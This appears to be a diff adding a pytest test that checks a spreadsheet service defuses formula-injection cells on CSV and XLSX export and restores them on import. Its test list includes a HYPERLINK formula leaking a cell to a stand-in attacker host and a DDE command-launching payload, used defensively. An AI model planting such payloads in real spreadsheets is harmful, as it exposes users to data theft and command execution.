@@ -1,0 +1,35 @@
+"""Formula-leading cells are neutralised on export and restored on import."""
+
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from services.files import read_sheet, write_table
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_hostile_cells_round_trip(tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"t{suffix}"
+    write_table(path, ["name", "n"], [[value, 7] for value in HOSTILE])
+    sheet = read_sheet(path)
+    # XML normalises a bare CR to LF, so in XLSX "\rx" is stored as "'\nx" (known limit: not restored).
+    expected = HOSTILE if suffix == ".csv" else [*HOSTILE[:-1], "'\nx"]
+    assert [values["name"] for _, values in sheet.rows] == expected
+    if suffix == ".xlsx":
+        cells = list(load_workbook(path).worksheets[0].iter_rows(min_row=2))
+        assert [c[0].data_type for c in cells] == ["s"] * len(HOSTILE)
+        assert [c[0].value for c in cells] == ["'" + v for v in HOSTILE[:-1]] + ["'\nx"]
+        assert [c[1].value for c in cells] == [7] * len(HOSTILE)
+    else:
+        text = path.read_bytes().decode("utf-8-sig")
+        assert "\"'=HYPERLINK" in text and "\n'@SUM(A1),7" in text and '"\'\rx"' in text
